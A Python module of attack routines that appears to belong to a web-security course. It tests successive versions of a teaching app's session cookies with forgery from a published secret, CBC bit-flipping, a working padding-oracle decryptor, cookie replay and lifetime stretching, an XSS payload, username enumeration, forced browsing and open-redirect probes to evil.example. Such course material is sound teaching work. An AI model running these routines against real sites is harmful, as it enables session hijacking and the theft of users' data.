"""The attacks of the notebooks: each works on one stage, and fails on the next.

Those over HTTP are given the server's `url` and know no more than any visitor. What they
return is what they got: something false where they got nothing.
"""

from __future__ import annotations

import json
from collections.abc import Callable, Iterable
from dataclasses import dataclass
from datetime import timedelta
from typing import Any
from urllib.parse import quote, urlsplit

import requests

from ...app import PAGE_SECRET
from ...cookie import derive_keys, from_base64, seal, to_base64, unseal
from ...errors import BadCookie
from ..clock import Clock
from ..http.visitor import Visitor

_BLOCK = 16
_PATIENCE = 60  # seconds


@dataclass(frozen=True)
class Outcome:
    """Whether an attack worked, and what was seen; true if it did."""

    worked: bool
    story: str

    def __bool__(self) -> bool:
        return self.worked

    def __repr__(self) -> str:
        return f"it {'worked' if self.worked else 'failed'}: {self.story}"


def open_with_published_secret(value: str) -> dict[str, Any] | None:
    """Read a cookie with the secret that the course page prints."""
    try:
        return unseal(value, derive_keys(PAGE_SECRET)).content
    except BadCookie:
        return None


def enter_with_published_secret(url: str) -> Outcome:
    """Make a cookie for a user who does not exist, and ask for the dashboard with it."""
    boss = {"user": {"userName": "boss", "email": "boss@example.com"}}
    # It lasts as long as its maker likes.
    forged = seal(boss, derive_keys(PAGE_SECRET), duration=100 * 365 * 24 * 3_600_000)
    answer = _ask(url, "/dashboard", forged)
    if "Hello boss" in answer.text:
        return Outcome(True, "GET /dashboard with a cookie of our own says 'Hello boss'")
    return Outcome(False, f"GET /dashboard with a cookie of our own {_seen(answer)}")


def forge_plain(url: str, message: str = "admin") -> Outcome:
    """Write a session in the clear, with a message of our own, and have the server read it."""
    forged = to_base64(json.dumps({"message": message}).encode())
    return _told(_message(url, forged), message, "with a cookie that we wrote")


def flip_bits(url: str, old: str = "user", new: str = "root") -> Outcome:
    """Turn one message into another of the same length, in a cookie we cannot read.

    The JSON begins ``{"message":"``, twelve bytes, so the first four letters of the message
    end the first block; mixing the IV with the difference of the two words mixes the
    decrypted block with it too.
    """
    browser = Visitor()
    _ask(url, f"/session-test-add?message={quote(old)}", browser=browser)
    value = browser.cookies["session"]
    iv, dot, rest = value.partition(".")
    changed = bytearray(from_base64(iv))
    start = len('{"message":"')
    for place, (a, b) in enumerate(zip(old.encode(), new.encode(), strict=True), start):
        if place < len(changed):
            changed[place] ^= a ^ b
    read = _message(url, f"{to_base64(bytes(changed))}{dot}{rest}")
    return _told(read, new, f"with the cookie of {old!r}, and bits of it flipped")


def read_by_padding(
    value: str, padding_is_good: Callable[[str], bool], *, last: int | None = None
) -> bytes:
    """Read the end of a plaintext by asking one question often: is this padding good?

    `value` begins ``iv.ciphertext``; the rest is sent along as it is. Returns the `last`
    bytes of the plaintext, or all of it, padding included; as many as could be told.
    """
    iv, ciphertext, *rest = value.split(".")
    raw = from_base64(iv) + from_base64(ciphertext)
    blocks = [raw[i : i + _BLOCK] for i in range(0, len(raw), _BLOCK)]

    def good(before: bytes, block: bytes) -> bool:
        return padding_is_good(".".join([to_base64(before), to_base64(block), *rest]))

    # A padding ends in 1 to 16, so of these at most one is good.
    if all(good(bytes([high]) * _BLOCK, blocks[-1]) for high in (0, 0x80)):
        return b""  # everything is good: the answers tell nothing

    found = b""
    while len(blocks) > 1 and (last is None or len(found) < last):
        block = blocks.pop()
        most = _BLOCK if last is None else min(_BLOCK, last - len(found))
        read = _read_block(blocks[-1], block, good, most)
        found = read + found
        if len(read) < most:
            break
    return found


def _read_block(
    before: bytes, block: bytes, good: Callable[[bytes, bytes], bool], most: int
) -> bytes:
    """Read up to `most` bytes from a block's end; `before` is the block ahead of it.

    CBC mixes what the cipher gives for a block with the block before. So for each byte
    there is one value of the byte before it that makes valid padding of it.
    """
    cipher_gave = bytearray(_BLOCK)
    for place in range(_BLOCK - 1, _BLOCK - 1 - most, -1):
        size = _BLOCK - place
        attempt = bytearray(b ^ size for b in cipher_gave)
        attempt[:place] = bytes(place)
        guess = next((g for g in range(256) if _fits(attempt, place, g, block, good)), None)
        if guess is None:
            most = size - 1
            break
        cipher_gave[place] = guess ^ size
    plain = bytes(a ^ b for a, b in zip(cipher_gave, before, strict=True))
    return plain[_BLOCK - most :]


def _fits(
    attempt: bytearray,
    place: int,
    guess: int,
    block: bytes,
    good: Callable[[bytes, bytes], bool],
) -> bool:
    attempt[place] = guess
    if not good(bytes(attempt), block):
        return False
    if place == 0:
        return True
    # It may be good as longer padding, by chance: then it is not once the byte ahead changes.
    other = bytearray(attempt)
    other[place - 1] ^= 0xFF
    return good(bytes(other), block)


def server_says_padding_is_good(url: str) -> Callable[[str], bool]:
    """Return the question for `read_by_padding`, put to a server: does it answer 500?"""
    browser = Visitor()

    def ask(value: str) -> bool:
        headers = {"Cookie": f"session={value}"}
        answer = browser.get(f"{url}/session-test-read", headers=headers, timeout=_PATIENCE)
        return answer.status_code != 500

    return ask


def stay_forever(url: str, log_in: dict[str, str], clock: Clock) -> Outcome:
    """Copy a cookie, and use it every 50 seconds for an hour: is it still good then?"""
    victim, thief = Visitor(), Visitor()
    victim.post(f"{url}/login", data=log_in, timeout=_PATIENCE)
    thief.cookies.update(victim.cookies)
    for _ in range(72):
        clock.advance(timedelta(seconds=50))
        answer = _ask(url, "/dashboard", browser=thief)
    inside = "Hello" in answer.text
    return Outcome(inside, f"after an hour the thief is {'in' if inside else 'out'}")


def stretch(url: str, clock: Clock) -> Outcome:
    """Write another duration into a cookie: does its session outlive the day?"""
    browser = Visitor()
    _ask(url, "/session-test-add?message=still here", browser=browser)
    fields = browser.cookies["session"].split(".")
    fields[3] = str(10 * 365 * 24 * 3_600_000)
    clock.advance(timedelta(days=1))
    return _told(_message(url, ".".join(fields)), "still here", "a day later")


def script_in_message(url: str) -> Outcome:
    """Send a victim a link with a script in it; does it come back as a script?"""
    script = "<script>alert('mine now')</script>"
    victim = Visitor()
    _ask(url, f"/session-test-add?message={quote(script)}", browser=victim)
    answer = _ask(url, "/session-test-read", browser=victim).text
    what = answer.partition("session message: ")[2]
    return Outcome(script in answer, f"the victim's browser gets {what}")


def find_users(url: str, names: Iterable[str]) -> set[str]:
    """Return those names that a log-in with a wrong password answers in another way.

    Another than a name that surely nobody has.
    """

    def answer(name: str) -> str:
        form = {"userName": name, "password": "guess"}
        return Visitor().post(f"{url}/login", data=form, timeout=_PATIENCE).text

    nobody = "nobody-has-this-name"
    # A page may repeat the name: that alone tells nothing.
    usual = answer(nobody)
    return {name for name in names if answer(name) != usual.replace(nobody, name)}


def forced_browsing(url: str, paths: Iterable[str]) -> set[str]:
    """Return those paths that answer a visitor who has not logged in."""

    def status(path: str) -> int:
        answer = Visitor().get(f"{url}{path}", allow_redirects=False, timeout=_PATIENCE)
        return answer.status_code

    return {path for path in paths if status(path) == 200}


#: What leads a browser to another host: a whole address, and what browsers take for one.
#: (Flask writes the backslash as %5C, and so takes the third one's sting out.)
ELSEWHERE = (
    "https://evil.example/",
    "//evil.example/",
    "/\\evil.example/",
    "/\t/evil.example/",
)


def open_redirect(url: str, log_in: dict[str, str]) -> set[str]:
    """Return those of `ELSEWHERE` to which a log-in with ``?next=`` sends the visitor."""
    return {target for target in ELSEWHERE if _sent_away(url, log_in, target)}


def _sent_away(url: str, log_in: dict[str, str], target: str) -> bool:
    address = f"{url}/login?next={quote(target, safe='')}"
    answer = Visitor().post(address, data=log_in, allow_redirects=False, timeout=_PATIENCE)
    location = answer.headers.get("Location", "")
    # Browsers strip tabs and read a backslash as a slash; not so %09 and %5C.
    read = location.replace("\t", "").replace("\\", "/")
    return urlsplit(read).netloc not in ("", urlsplit(url).netloc)


def _ask(
    url: str, path: str, value: str | None = None, *, browser: requests.Session | None = None
) -> requests.Response:
    headers = {} if value is None else {"Cookie": f"session={value}"}
    return (browser or Visitor()).get(f"{url}{path}", headers=headers, timeout=_PATIENCE)


def _seen(answer: requests.Response) -> str:
    """What a visitor sees of an answer and of the redirect before it."""
    if answer.history:
        return f"is sent to {answer.history[-1].headers['Location']}"
    return f"is answered {answer.status_code}"


def _message(url: str, value: str) -> str:
    """What the server reads as the message of a session, or its status."""
    answer = _ask(url, "/session-test-read", value)
    return answer.text.partition("session message: ")[2] or f"nothing, {answer.status_code}"


def _told(read: str, wanted: str, how: str) -> Outcome:
    return Outcome(read == wanted, f"{how}, the server reads {read!r}")
